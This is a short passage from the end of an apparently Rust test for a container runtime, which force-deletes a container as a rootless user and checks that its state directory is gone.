    }
    run_as_rootless_user(rt.bin(), &xdg, &bundle, &["delete", "-f", &id]);
    assert!(!xdg.join(&id).exists());
}
